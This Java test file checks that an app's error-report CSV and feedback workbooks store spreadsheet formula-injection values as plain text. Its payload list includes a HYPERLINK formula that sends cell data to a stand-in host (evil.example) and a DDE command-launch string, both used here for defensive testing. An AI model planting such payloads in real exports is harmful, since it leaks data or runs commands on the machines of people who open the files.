package vn.cdgd.staging.feedback;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.InputStream;
import java.io.Reader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import vn.cdgd.ingest.Issue;
import vn.cdgd.ingest.Rule;

/**
 * Values, unit names and file names that a spreadsheet would take for a formula (OWASP's CSV
 * injection list: =, +, -, @, tab, carriage return) reach the reports as text only: the CSV is
 * read back as a spreadsheet reads it, the workbooks cell by cell.
 */
class FormulaInjectionTest {
  static final List<String> PAYLOADS = List.of(
      "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")",
      "+1+2",
      "-2+3",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "\t=1+2",
      "\r=1+2",
      "-5");

  @TempDir Path folder;

  private static List<ProblemRow> hostileRows() {
    List<ProblemRow> rows = new ArrayList<>();
    for (int i = 0; i < PAYLOADS.size(); i++) {
      String payload = PAYLOADS.get(i);
      String file = i == 0 ? "=1+2 ten tep.xlsx" : payload + ".xlsx";
      rows.add(new ProblemRow("DNO00" + i, payload, "2019-2020", file, ProblemRow.REJECTED,
          new Issue(file, "Số liệu", "C9", "A02", payload, Rule.NEGATIVE, "Số âm ở C9.")));
    }
    return rows;
  }

  @Test
  void theErrorReportCsvHoldsNoFieldASpreadsheetWouldEvaluate() throws IOException {
    Path csv = folder.resolve("bao-cao-loi.csv");

    ProblemReportWriter.writeCsv(hostileRows(), csv);

    List<CSVRecord> records = read(csv);
    assertThat(records).hasSize(PAYLOADS.size());
    for (CSVRecord record : records) {
      for (String field : record) {
        assertThat(evaluatedBySpreadsheet(field)).as("field %s", field).isFalse();
      }
    }
    assertThat(records).extracting(r -> r.get("file")).contains("'=1+2 ten tep.xlsx");
    assertThat(records).extracting(r -> r.get("value"))
        .containsExactlyInAnyOrderElementsOf(PAYLOADS.stream().map(p -> "'" + p).toList());
    assertThat(records).extracting(r -> r.get("unit_name"))
        .containsExactlyInAnyOrderElementsOf(PAYLOADS.stream().map(p -> "'" + p).toList());
    assertThat(records).extracting(r -> r.get("message")).containsOnly("Số âm ở C9.");
  }

  @Test
  void everyFieldOfTheCsvIsQuoted() throws IOException {
    Path csv = folder.resolve("bao-cao-loi.csv");

    ProblemReportWriter.writeCsv(hostileRows().subList(0, 1), csv);

    List<String> lines = Files.readAllLines(csv, StandardCharsets.UTF_8);
    assertThat(lines.get(1)).startsWith("\"2019-2020\",\"DNO000\",\"'=HYPERLINK(").contains(",\"'=1+2 ten tep.xlsx\",");
  }

  @Test
  void theErrorWorkbookStoresEveryPayloadAsAStringCellNeverAFormula() throws IOException {
    Path xlsx = folder.resolve("bao-cao-loi.xlsx");

    ProblemReportWriter.writeXlsx(hostileRows(), xlsx);

    List<String> texts = stringCells(xlsx, ProblemReportWriter.PROBLEMS_SHEET);
    assertThat(texts).contains("=1+2 ten tep.xlsx").containsAll(PAYLOADS);
  }

  @Test
  void theFeedbackWorkbooksStoreEveryPayloadAsAStringCellNeverAFormula() throws IOException {
    List<Path> written = Problems.listOnly(hostileRows(), folder.resolve("phan-hoi"));

    assertThat(written).hasSize(PAYLOADS.size());
    List<String> texts = new ArrayList<>();
    for (Path workbook : written) {
      try (XSSFWorkbook opened = open(workbook)) {
        for (Sheet sheet : opened) {
          texts.addAll(stringCells(sheet));
        }
      }
    }
    assertThat(texts).containsAll(PAYLOADS);
  }

  /** What a spreadsheet evaluates when it opens a CSV field. */
  static boolean evaluatedBySpreadsheet(String field) {
    return !field.isEmpty() && "=+-@\t\r".indexOf(field.charAt(0)) >= 0;
  }

  private static List<String> stringCells(Path xlsx, String sheetName) throws IOException {
    try (XSSFWorkbook workbook = open(xlsx)) {
      return stringCells(workbook.getSheet(sheetName));
    }
  }

  /** Every cell's text, asserting on the way that no cell of the sheet is a formula. */
  private static List<String> stringCells(Sheet sheet) {
    List<String> texts = new ArrayList<>();
    for (Row row : sheet) {
      for (Cell cell : row) {
        assertThat(cell.getCellType()).as("%s!%s", sheet.getSheetName(), cell.getAddress()).isNotEqualTo(CellType.FORMULA);
        if (cell.getCellType() == CellType.STRING) {
          texts.add(cell.getStringCellValue());
        }
      }
    }
    return texts;
  }

  private static XSSFWorkbook open(Path xlsx) throws IOException {
    try (InputStream in = Files.newInputStream(xlsx)) {
      return new XSSFWorkbook(in);
    }
  }

  private static List<CSVRecord> read(Path csv) throws IOException {
    try (Reader reader = Files.newBufferedReader(csv, StandardCharsets.UTF_8)) {
      reader.skip(1);
      CSVFormat format = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get();
      try (CSVParser parser = format.parse(reader)) {
        return parser.getRecords();
      }
    }
  }
}
